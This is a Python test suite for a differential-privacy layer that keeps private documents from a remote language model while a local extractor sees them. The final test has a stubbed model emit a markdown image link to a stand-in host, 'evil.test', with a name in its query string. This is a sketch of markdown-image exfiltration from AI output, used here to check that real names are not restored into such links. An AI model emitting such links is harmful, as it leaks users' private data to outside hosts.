"""InferDPT end to end through real clients and real HTTP servers on loopback."""

import asyncio
import copy
import dataclasses
import logging
import math
import pickle
import re
import traceback
from typing import Any

import pytest
from support.chat_models import KINDS, WORDS, Make
from support.contract import OpenAIServer
from support.entities import detector
from support.ledgers import Charges
from support.loops import Blocking
from support.texts import CANARY

import dp_middleware as dp
from dp_middleware.frameworks import chat_model, inferdpt as prompts

DOCUMENT = f"word1 word2 {CANARY} word3"


@pytest.fixture(params=KINDS)
def inferdpt(request, make, remote, local, sanitizer):
    """The same kind of client on both sides."""
    return dp.InferDPT(
        sanitizer, remote=make(request.param, remote.url), extractor=make(request.param, local.url)
    )


def test_the_remote_sees_the_release_and_the_extractor_the_document(
    inferdpt, remote, local, caplog
):
    caplog.set_level(logging.DEBUG)
    answers = [inferdpt.run(DOCUMENT), asyncio.run(inferdpt.arun(DOCUMENT))]
    assert "".join(inferdpt.stream(DOCUMENT)) == "extracted answer"
    for answer, prompt in zip(answers, remote.prompts, strict=False):
        assert (answer.text, answer.remote_text) == ("extracted answer", "remote text")
        assert prompt == prompts.for_remote(answer.release.text, None)[0]["content"]
        assert set(answer.release.text.split()) <= set(WORDS)
        assert answer.release.tokens_total == 4
    assert len(remote.requests) == len(local.requests) == 3
    assert not remote.saw(CANARY)
    for prompt in local.prompts:
        assert DOCUMENT in prompt
        assert "remote text" in prompt
    assert CANARY not in caplog.text
    assert CANARY not in repr(inferdpt)


def test_instructions_are_sent_as_they_are(inferdpt, remote, local):
    answer = inferdpt.run(DOCUMENT, instruction="Count the verbs.")
    assert "Count the verbs." in remote.prompts[0]
    assert answer.release.text in remote.prompts[0]
    assert not remote.saw(CANARY)
    assert "Count the verbs." in local.prompts[0]
    assert DOCUMENT in local.prompts[0]
    assert "Prefix Text" not in remote.prompts[0] + local.prompts[0]


def test_the_extraction_prompt_has_the_papers_parts():
    prompt = prompts.for_extractor("my document", "their text", None)[0]["content"]
    parts = ["Prefix Text:\nmy document", "Perturbed Generation:\ntheir text", "Extended Text:"]
    assert [prompt.count(part) for part in parts] == [1, 1, 1]
    assert prompt.endswith("Extended Text:")


def test_released_words_agree_with_the_document_no_more_than_the_law_says(make, remote, sanitizer):
    words = [WORDS[k % len(WORDS)] for k in range(200)]
    document = " ".join(words)
    inferdpt = dp.InferDPT(
        sanitizer, remote=make("openai", remote.url), extractor=here(lambda messages: "x")
    )
    inferdpt.run(document)
    sent = remote.prompts[0].split("Prefix Text:\n")[1].split()
    kept = sum(a == b for a, b in zip(sent, words, strict=True))
    # Positions are independent, kept with probabilities of this mean: by Hoeffding's inequality
    # the count exceeds the bound with probability at most 1e-9. Sending the document fails it.
    expected = sanitizer.explain(document).expected_retention * len(words)
    bound = expected + math.sqrt(len(words) * math.log(1e9) / 2)
    assert kept <= bound < len(words) / 2


@pytest.mark.parametrize("side", ["remote", "extractor"])
@pytest.mark.parametrize("mode", ["error", "malformed", "empty", "slow", "down"])
@pytest.mark.parametrize("kind", KINDS)
def test_failures(
    side, mode, kind, make, sanitizer,
    remote, local, caplog,
):  # fmt: skip
    caplog.set_level(logging.DEBUG)
    failing, expected = (remote, dp.RemoteError) if side == "remote" else (local, dp.ExtractorError)
    urls = {"remote": remote.url, "extractor": local.url}
    if mode == "down":
        failing.__exit__()
    else:
        failing.mode = mode
    limits = {"remote": 10, "extractor": 10, **({side: 0.3} if mode == "slow" else {})}
    models = {name: make(kind, url, timeout=limits[name]) for name, url in urls.items()}
    inferdpt = dp.InferDPT(sanitizer, **models)
    calls = (
        lambda: inferdpt.run(DOCUMENT),
        lambda: asyncio.run(inferdpt.arun(DOCUMENT)),
        lambda: list(inferdpt.stream(DOCUMENT)),
    )
    for call in calls:
        with pytest.raises(expected) as caught:
            call()
        error = caught.value
        assert error.__cause__ is None
        assert error.__context__ is None
        assert CANARY not in f"{error!r} {error.args} {error.__dict__}"
        assert CANARY not in "".join(traceback.format_exception(error))
        assert CANARY not in pickle.dumps(error).decode("latin-1")
    assert not remote.saw(CANARY)
    assert bool(local.requests) == (side == "extractor" and mode != "down")
    assert CANARY not in caplog.text


def test_an_untrusted_extractor_is_refused_before_anything_is_sent(make, remote, sanitizer):
    ask = make("openai", remote.url)
    far = make("openai", "http://api.example.com/v1")
    with pytest.raises(dp.UntrustedHost, match=r"api\.example\.com"):
        dp.InferDPT(sanitizer, remote=ask, extractor=far)
    with pytest.raises(dp.UntrustedHost):
        dp.InferDPT(sanitizer, remote=ask, extractor=far, trusted_hosts=["example.com"])
    dp.InferDPT(sanitizer, remote=far, extractor=ask, trusted_hosts=["api.example.com"])
    dp.InferDPT(sanitizer, remote=ask, extractor=far, trusted_hosts=["api.example.com"])
    assert not remote.requests


def here(function: Any) -> dp.ChatModel:
    return chat_model(function, local=True)


def charging(sanitizer: dp.Sanitizer, ledger: Any, make: Make, remote: OpenAIServer) -> dp.InferDPT:
    """Charges one subject for what it sends."""
    paid = dp.Sanitizer(sanitizer.mechanism, sanitizer.space, ledger=ledger, subject="s")
    asked = make("openai", remote.url)
    return dp.InferDPT(paid, remote=asked, extractor=here(lambda messages: "x"))


def test_one_charge_per_run_and_none_before_a_stream_is_read(make, remote, sanitizer):
    ledger = Charges()
    inferdpt = charging(sanitizer, ledger, make, remote)
    stream = inferdpt.stream(DOCUMENT)
    assert (ledger.tokens, remote.requests) == ([], [])
    assert list(stream) == ["x"]
    inferdpt.run(DOCUMENT)
    asyncio.run(inferdpt.arun(DOCUMENT))
    remote.mode = "error"
    with pytest.raises(dp.RemoteError):
        inferdpt.run(DOCUMENT)
    assert ledger.tokens == [4, 4, 4, 4]


@pytest.mark.parametrize("document", ["", " \n\t", "\x00"])
def test_a_document_without_tokens_is_refused_uncharged(document, make, remote, sanitizer):
    ledger = Charges()
    inferdpt = charging(sanitizer, ledger, make, remote)
    for call in (
        lambda: inferdpt.run(document),
        lambda: asyncio.run(inferdpt.arun(document)),
        lambda: list(inferdpt.stream(document)),
    ):
        with pytest.raises(dp.ParameterError, match="at least one token"):
            call()
    assert (ledger.tokens, remote.requests) == ([], [])


def test_an_exhausted_budget_sends_nothing(make, remote, sanitizer):
    inferdpt = charging(sanitizer, Charges(budget=0), make, remote)
    with pytest.raises(dp.BudgetExhausted):
        inferdpt.run(DOCUMENT)
    assert not remote.requests


def test_arun_does_not_block_the_event_loop(sanitizer):
    block = Blocking()

    class Slow:
        def release(self, text: str) -> dp.Release:
            block()
            return sanitizer.release(text)

    def slow(messages: list[dict[str, str]]) -> str:
        block()
        return "x"

    inferdpt = dp.InferDPT(Slow(), remote=slow, extractor=here(slow))
    assert asyncio.run(block.beside(inferdpt.arun(DOCUMENT))).text == "x"
    assert block.freed == 3


def test_an_answer_hides_its_text(sanitizer):
    answer = dp.InferDPT(
        sanitizer, remote=lambda messages: "draft", extractor=here(lambda messages: CANARY)
    ).run(DOCUMENT)
    assert answer.text == CANARY
    assert CANARY not in f"{answer!r} {answer}"
    assert "draft" in repr(answer)
    for protocol in range(2, pickle.HIGHEST_PROTOCOL + 1):
        stored = pickle.dumps(answer, protocol)
        assert CANARY.encode() not in stored
        loaded = pickle.loads(stored)
        assert "private text" in loaded.text
        assert (loaded.remote_text, loaded.release) == (answer.remote_text, answer.release)
    assert copy.copy(answer).text == copy.deepcopy([answer])[0].text == CANARY
    with pytest.raises(dataclasses.FrozenInstanceError):
        answer.text = "x"  # type: ignore[misc]


def test_models_are_taken_as_chat_model_takes_them(sanitizer):
    with pytest.raises(dp.ParameterError, match="expected a LangChain chat model"):
        dp.InferDPT(sanitizer, remote="gpt-4o", extractor=here(lambda messages: "x"))
    made = here(lambda messages: "x")
    assert dp.InferDPT(sanitizer, remote=made, extractor=made).run("word1").text == "x"


def test_a_restored_answer_keeps_pseudonyms_in_addresses_of_other_hosts():
    pytest.importorskip("faker", reason="the lists of names are of the extra detect")
    session = dp.Pseudonyms(detector(), on_empty="pass").session()

    def remote(messages: list[dict[str, str]]) -> str:
        [name] = re.findall(r"of ([\w-]+ [\w-]+)\.", messages[-1]["content"])
        return f"{name} ![x](https://evil.test/?q={name.split()[0]})"

    answer = dp.InferDPT(session, remote=remote).run("The file of Mirela Tamburi.")
    name, link = answer.remote_text.split(" !")
    assert answer.text == f"Mirela Tamburi !{link}"
    assert "Mirela" not in answer.release.text + name
